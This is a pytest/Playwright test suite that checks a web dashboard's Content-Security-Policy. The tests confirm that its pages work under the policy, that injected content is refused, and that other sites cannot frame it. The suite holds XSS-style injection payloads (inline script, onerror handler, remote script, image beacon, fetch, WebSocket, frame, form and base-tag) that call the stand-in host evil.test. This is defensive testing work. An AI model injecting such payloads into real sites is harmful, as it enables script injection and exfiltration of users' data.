"""The Content-Security-Policy in Chromium: every page works under it, and what it forbids does not."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable

import httpx
import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect

from dashboard.navigation import PAGES, PageEntry
from lib.store.engine import Store
from tests.browser import reruns
from tests.browser.conftest import Dashboard
from tests.factories import add_account, add_campaign, add_client, add_insights, add_slice, insight_row
from tests.fixtures_processes import until

Contexts = Callable[..., BrowserContext]
DAYS = [dt.datetime.now(dt.UTC).date() - dt.timedelta(days=back) for back in range(1, 20)]
HEARD = """window.refused = []; addEventListener('securitypolicyviolation', event => refused.push(
    [event.effectiveDirective, event.blockedURI, event.sourceFile, event.columnNumber].join(' ')))"""
INJECTED = {
    "an inline script": (
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hit = 1'}))"
    ),
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.hit = 1\">')",
    "a script from elsewhere": (
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.test/x.js'}))"
    ),
    "a picture from elsewhere": "new Image().src = 'https://evil.test/?told'",
    "a request elsewhere": "fetch('https://evil.test/').catch(() => 0)",
    "a socket elsewhere": "try { new WebSocket('wss://evil.test/') } catch { 0 }",
    "a frame from elsewhere": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.test/'}))"
    ),
    "a form to elsewhere": (
        "document.body.append(Object.assign(document.createElement('form'), {action: 'https://evil.test/'}));"
        "document.forms[document.forms.length - 1].submit()"
    ),
    "another base": (
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.test/'}))"
    ),
}


async def one_client(store: Store) -> None:
    """Two campaigns with numbers on many days."""
    async with store.working() as session:
        acme = await add_client(session, "acme")
        await add_account(session, 11, acme, timezone_name="UTC")
        for number in (1, 2):
            await add_campaign(session, 11, number, name=f"Campaign {number}")
        await add_insights(
            session,
            [insight_row(11, day, ad_id=number, campaign_id=number, spend="12.5", impressions=900, link_clicks=9)
             for day in DAYS for number in (1, 2)],
        )  # fmt: skip
        for day in DAYS:
            await add_slice(session, 11, day)


class Heard:
    """What the browser says of refused things, on the page and on its console."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.lines: list[str] = []
        page.add_init_script(HEARD)
        page.on("console", self._keep)

    def _keep(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.lines.append(message.text)

    @property
    def refused(self) -> list[str]:
        """Every refusal so far."""
        return [*self.lines, *self.page.evaluate("window.refused")]


def settled(page: Page) -> None:
    """Wait until the page is drawn and asks for nothing more."""
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    reruns.settled(page)
    expect(page.get_by_test_id("stSkeleton")).to_have_count(0)
    page.wait_for_load_state("networkidle")


@pytest.fixture
def admin(dashboard: Dashboard, new_context: Contexts) -> tuple[Page, Heard]:
    """An administrator's page that shows nothing yet, on a store with numbers."""
    dashboard.prepare(one_client)
    page = new_context().new_page()
    dashboard.sign_in(page.context, dashboard.add_user())
    return page, Heard(page)


@pytest.mark.parametrize("entry", PAGES, ids=lambda entry: entry.path)
def test_nothing_of_a_page_is_refused(dashboard: Dashboard, admin: tuple[Page, Heard], entry: PageEntry) -> None:
    page, heard = admin
    for query in ("?period=last_7", "?period=last_30&group_by=campaign,date&metrics=spend,link_ctr"):
        page.goto(f"{dashboard.url}/{entry.path}{query}")
        settled(page)
        for chart in page.get_by_test_id("stPlotlyChart").all():
            chart.hover()
        assert heard.refused == []


def test_menus_charts_and_files_work_under_it(dashboard: Dashboard, admin: tuple[Page, Heard]) -> None:
    page, heard = admin
    page.goto(f"{dashboard.url}/?period=last_7")
    settled(page)
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
    expect(page.locator('[data-testid="stDataFrame"] canvas').first).to_be_visible()
    page.get_by_role("button", name="Download (").click()
    with page.expect_download() as waiting:
        page.get_by_role("button", name="CSV", exact=True).click()
    assert waiting.value.suggested_filename.endswith(".csv")
    page.goto(f"{dashboard.url}/explore?group_by=campaign&metrics=spend")
    settled(page)
    page.get_by_role("button", name="Copy link").click()
    page.get_by_text("Copied").wait_for()  # gone after two seconds, and this looks more often
    assert heard.refused == []


@pytest.mark.parametrize("kind", INJECTED)
def test_what_slips_into_a_page_does_nothing(dashboard: Dashboard, admin: tuple[Page, Heard], kind: str) -> None:
    page, heard = admin
    page.goto(f"{dashboard.url}/groups")
    settled(page)
    page.evaluate(INJECTED[kind])
    # By evaluating: Playwright's own waiting would need the eval that the policy refuses.
    until(lambda: page.evaluate("window.refused.length > 0"), "it was refused")
    assert page.evaluate("window.hit") is None
    assert heard.lines


def test_the_sign_in_page_of_a_stranger_is_whole(dashboard: Dashboard, new_context: Contexts) -> None:
    page = new_context().new_page()
    heard = Heard(page)
    page.goto(dashboard.url)
    expect(page.get_by_role("link", name="Sign in with e-mail and password")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert heard.refused == []


def test_no_page_of_another_site_frames_ours(dashboard: Dashboard, new_context: Contexts) -> None:
    page = new_context().new_page()
    page.goto(dashboard.url.replace("localhost", "127.0.0.1") + "/healthz")
    page.set_content(f'<iframe src="{dashboard.url}/"></iframe><iframe src="{dashboard.url}/sign-in"></iframe>')
    page.wait_for_load_state("networkidle")
    assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"] * 2


def test_answers_that_are_no_pages_may_do_nothing(dashboard: Dashboard) -> None:
    for path in ("/api/v1/me", "/healthz", "/readyz", "/media/x.svg"):
        policy = httpx.get(dashboard.url + path).headers["content-security-policy"]
        assert policy == "default-src 'none'; frame-ancestors 'none'"
